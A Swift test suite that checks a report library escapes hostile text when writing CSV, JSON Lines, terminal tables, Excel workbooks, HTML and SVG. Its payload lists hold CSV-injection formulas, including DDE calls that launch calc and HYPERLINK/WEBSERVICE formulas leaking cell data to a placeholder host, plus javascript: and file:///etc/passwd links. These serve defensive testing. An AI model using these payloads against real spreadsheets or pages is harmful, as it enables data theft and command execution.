import Foundation
import FoundationXML
import Testing

@testable import TableWriting

/// Text from the news may hold anything; nothing that is written for a spreadsheet, a browser or a program runs it.
@Suite struct SpreadsheetSafetyTests {
  /// From OWASP's page on CSV injection, the payloads it links to, and ASVS 1.2.10: formulas, DDE, and what hides
  /// them from a check of the first character.
  static let formulas = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    "=HYPERLINK(\"http://x.example?leak=\"&A1,\"click\")",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=WEBSERVICE(\"http://x.example/\"&A1)", "=IMPORTXML(CONCAT(\"http://x.example?v=\",A1),\"//a\")",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "+thespanishinquisition(cmd|'/c calc.exe'!A",
    "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "\r\n=1+1",
    // Full-width signs, which spreadsheets of East Asia read as the narrow ones.
    "\u{FF1D}1+1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}SUM(1)",
  ]
  static let addresses = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "ftp://x.example/a", "vbscript:msgbox(1)", "mailto:a@x.example", "\\\\x.example\\share\\a",
    "//x.example/a",
    " javascript:alert(1)", "https:javascript:alert(1)", "ms-word:ofe|u|http://x.example/a",
    "internal:Sheet1!A1",
    "external:c:\\a.xlsx", "http",
  ]
  static var controls: [String] {
    (Array(0...0x1F) + Array(0x7F...0x9F) + [0x200E, 0x202E, 0x2066, 0xFEFF, 0xFFFE, 0xFFFF])
      .compactMap(Unicode.Scalar.init).flatMap {
        [String(Character($0)), "a" + String(Character($0)) + "=1"]
      }
  }
  static var all: [String] { formulas + addresses + HTMLSafetyTests.attacks + controls }

  private static let columns: [Column] = [
    Column("text", .text, title: LocalizedText(same: "text"), meaning: LocalizedText(same: "text")),
    Column("rich", .text, title: LocalizedText(same: "rich"), meaning: LocalizedText(same: "rich")),
    Column("list", .list, title: LocalizedText(same: "list"), meaning: LocalizedText(same: "list")),
    Column("day", .date, title: LocalizedText(same: "day"), meaning: LocalizedText(same: "day")),
    Column(
      "address", .address, title: LocalizedText(same: "address"), meaning: LocalizedText(same: "address")),
    Column("link", .text, title: LocalizedText(same: "link"), meaning: LocalizedText(same: "link")),
  ]

  /// The text in every kind of cell that holds text.
  private static func cells(_ text: String) -> [Cell] {
    [
      .text(text), .rich([TextRun(text, isEmphasized: true)]), .list([text]), .day(text), .address(text),
      .link(text, to: .address(text)),
    ]
  }

  private static let table = ReportTable(
    name: "all", title: LocalizedText(same: "all"), meaning: LocalizedText(same: "all"), columns: columns,
    rows: TableRows(all, row: cells))

  /// The same without days, since a workbook refuses what is none.
  private static let daylessTable = ReportTable(
    name: "all", title: LocalizedText(same: "all"), meaning: LocalizedText(same: "all"),
    columns: columns.filter { $0.type != .date },
    rows: TableRows(all) { text in
      cells(text).filter { cell in
        if case .day = cell { false } else { true }
      }
    })

  /// Texts of several runs, which the library writes by a way of its own.
  private static let runsTable = ReportTable(
    name: "runs", title: LocalizedText(same: "runs"), meaning: LocalizedText(same: "runs"),
    columns: [columns[1]],
    rows: TableRows(all) { [.rich([TextRun("a"), TextRun($0, isEmphasized: true), TextRun("b")])] })

  @Test func noFieldOfACSVFileBeginsLikeAFormula() throws {
    for format in [RowFormat.csv] {
      let bytes = try SampleTables.bytes(format.writer(columns: Self.columns), Self.table)
      let records = try CSVReader.records(of: bytes)
      #expect(records.count == Self.all.count + 1)
      let starts = Set("=+-@\t\r\n\0\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}".unicodeScalars)
      for (record, text) in zip(records.dropFirst(), Self.all) {
        for field in record.fields {
          #expect(field.unicodeScalars.first.map(starts.contains) != true, "\(field.debugDescription)")
          // Nothing is lost: the text stands there, behind the sign that makes it one.
          #expect(field == text || field == "'" + text)
        }
      }
    }
  }

  @Test func jsonLinesKeepEveryTextAndStayOneLineARow() throws {
    let bytes = try SampleTables.bytes(RowFormat.jsonLines.writer(columns: Self.columns), Self.table)
    let lines = bytes.split(separator: UInt8(ascii: "\n"))
    #expect(lines.count == Self.all.count)
    for (line, text) in zip(lines, Self.all) {
      #expect(!line.contains { $0 < 0x20 })
      let object = try #require(try JSONSerialization.jsonObject(with: Data(line)) as? [String: Any])
      // Foundation's reader takes a byte order mark that is all of a text for none.
      if text == "\u{FEFF}" { continue }
      #expect((object["text"] as? String).map { Array($0.utf8) } == Array(text.utf8))
      #expect((object["list"] as? [String])?.map { Array($0.utf8) } == [Array(text.utf8)])
    }
  }

  @Test func theTerminalIsNotControlled() throws {
    let bytes = try SampleTables.bytes(RowFormat.table.writer(columns: Self.columns), Self.table)
    let text = String(decoding: bytes, as: UTF8.self)
    let left = text.unicodeScalars.filter {
      $0.value < 0x20 && $0 != "\n" || (0x7F...0x9F).contains($0.value) || $0 == "\u{202E}"
    }
    #expect(left.isEmpty, "\(left.map(\.value))")
  }

  @Test(.enabled(if: Unzip.isThere, "needs /usr/bin/unzip (Debian: unzip)"))
  func aWorkbookHoldsTextsAndNoOtherLinks() throws {
    try withTemporaryFolder { folder in
      let path = folder + "/safety.xlsx"
      let workbook = WorkbookDescription(
        title: Self.formulas[0], subject: Self.formulas[1], author: Self.formulas[2], created: "2024-01-01",
        language: .thai,
        sheets: [
          SheetDescription(
            name: "a",
            blocks: [
              .title("=1+1"), .paragraph("=1+1"), .table(SheetTable(Self.daylessTable, excelName: "T")),
              .table(SheetTable(Self.runsTable, excelName: "Runs")),
            ])
        ])
      _ = try WorkbookWriter.write(workbook, to: path)
      let sheet = try Unzip.part("xl/worksheets/sheet1.xml", of: path)
      // A formula stands in an element `f`, and no text is taken for one.
      #expect(!sheet.contains("<f>") && !sheet.contains("<f "))
      #expect(!sheet.contains("ddeLink"))
      let targets = try Unzip.part("xl/worksheets/_rels/sheet1.xml.rels", of: path)
        .matches(of: try Regex("Target=\"([^\"]*)\"")).compactMap { $0.output[1].substring }
      for target in targets {
        #expect(
          target.hasPrefix("http://") || target.hasPrefix("https://") || target.hasPrefix("../tables/")
            || target.hasPrefix("../drawings/"), "\(target)")
      }
      #expect(!sheet.contains("javascript:alert(1)\" r:id"))
      for part in ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "docProps/core.xml"] {
        let text = try Unzip.part(part, of: path)
        #expect(XMLParser(data: Data(text.utf8)).parse(), "\(part) is not well-formed")
      }
    }
  }

  @Test func aPageHasNoOtherLinksAndAPolicyThatAllowsNone() throws {
    let workbook = WorkbookDescription(
      title: "t", author: "a", created: "2024-01-01", language: .thai,
      sheets: [SheetDescription(name: "a", blocks: [.table(SheetTable(Self.table, excelName: "T"))])])
    let text = try HTMLReportTests.text(workbook)
    for element in try HTMLReportTests.elements(text) {
      guard let link = element.attributes["href"] else { continue }
      #expect(
        link.hasPrefix("#") || link == "data:,"
          || ["http://", "https://"].contains { link.lowercased().hasPrefix($0) }, "\(link)")
    }
    let policy = try #require(
      text.firstMatch(of: try Regex("Content-Security-Policy\" content=\"([^\"]*)\"")))
    let words = String(policy.output[1].substring ?? "")
    #expect(words.hasPrefix("default-src 'none'"))
    #expect(!words.contains("unsafe") && !words.contains("http") && !words.contains("*"))
  }

  @Test(arguments: formulas + HTMLSafetyTests.attacks)
  func aPictureHoldsTextOnly(attack: String) throws {
    let workbook = HTMLSafetyTests.workbook([attack])
    let chart = try #require(
      workbook.sheets[0].blocks.compactMap { block in
        if case .chart(let chart) = block { chart } else { nil }
      }.first)
    let reader = try #require(SVGReader.read(try SVGChart(chart, in: workbook).text))
    let names = Set(reader.elements.map(\.name))
    #expect(
      names.isDisjoint(with: ["script", "foreignObject", "image", "a", "use", "animate", "set", "iframe"]))
    for element in reader.elements {
      #expect(!element.attributes.keys.contains { $0.hasPrefix("on") || $0.hasSuffix("href") })
    }
  }
}
